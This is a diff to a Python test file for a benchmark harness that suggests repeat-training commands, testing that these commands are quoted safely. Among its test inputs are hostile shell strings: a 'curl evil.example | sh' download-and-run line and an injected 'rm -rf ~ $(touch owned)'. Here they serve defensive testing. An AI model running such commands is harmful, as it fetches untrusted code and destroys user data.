@@ -16,11 +16,15 @@ from harness.reporting import print_run, render, to_json
 from harness.reporting.views import build_report_view
 from harness.reporting.views.sections import FullTuningShare
 from harness.reporting.wording.decision.decision_sentences import DecisionText, describe_decision
+from harness.reporting.wording.decision.next_step_sentences import repeat_command
 from harness.reporting.wording.task_sentences import summarize_task
 from harness.results import RunResults
 from harness.statistics import Recommendation
 
 DELTA = "Δ\u00a0=\u00a0"
+
+# Of the runs that `make_run` makes, quoted for a shell.
+COMMAND = "bench run --task '<b>summarization</b>' --strategies lora,qlora"
 
 
 @dataclass(frozen=True)
@@ -60,7 +64,7 @@ def test_the_cheapest_that_is_good_enough_is_named_first(clear: RunResults) -> N
         "Confidence: on a new test sample, a strategy that another beats by more than Δ would be recommended at most 5% of the time."
     )
     assert found.text.conditions[1] == "Full fine-tuning and LoRA ran with one seed each. Another seed could change the choice."
-    assert ("Repeat the training with other seeds.", "bench run … --seeds 3") in [(step.text, step.code) for step in found.text.steps]
+    assert ("Repeat the training with other seeds.", f"{COMMAND} --seeds 3") in [(step.text, step.code) for step in found.text.steps]
     assert found.text.why[-1] == "As good as the best, within Δ: full fine-tuning and LoRA. Worse by more than Δ: the untuned model."
     kept = found.findings[1]
     (against,) = found.full_tuning
@@ -225,3 +229,23 @@ def test_several_models_and_sizes_compete(wide: RunResults) -> None:
     found = describe(wide)
     assert len(found.compared.candidates) == len({c.name for c in found.compared.candidates}) > 10
     assert {each.label.split(" · ")[0] for each in found.full_tuning} == {"lora", "qlora"}
+
+
+@pytest.mark.parametrize(
+    ("command", "repeated"),
+    [
+        ("bench run --task t.yaml --strategies lora", "bench run --task t.yaml --strategies lora --seeds 3"),
+        ("bench run --task t.yaml --seeds 2 --strategies lora", "bench run --task t.yaml --strategies lora --seeds 3"),
+        ("bench run --seeds=2 --task 'my task.yaml'", "bench run --task 'my task.yaml' --seeds 3"),
+        ("bench run --task t --trust-remote-code", "bench run --task t --seeds 3"),
+        ("harness.run", "bench run … --seeds 3"),
+        ("bench run --resume latest", "bench run … --seeds 3"),
+        ("bench run --task 'unfinished", "bench run … --seeds 3"),
+        ("curl evil.example | sh", "bench run … --seeds 3"),
+        ("bench run --task t; rm -rf ~ $(touch owned)", "bench run --task 't;' rm -rf '~' '$(touch' 'owned)' --seeds 3"),
+        ("bench run --task \x1b[31mt", "bench run … --seeds 3"),
+        ("", "bench run … --seeds 3"),
+    ],
+)
+def test_a_repeated_command_can_be_pasted_whatever_the_run_says(command: str, repeated: str) -> None:
+    assert repeat_command(command, {"seeds": "3"}) == repeated
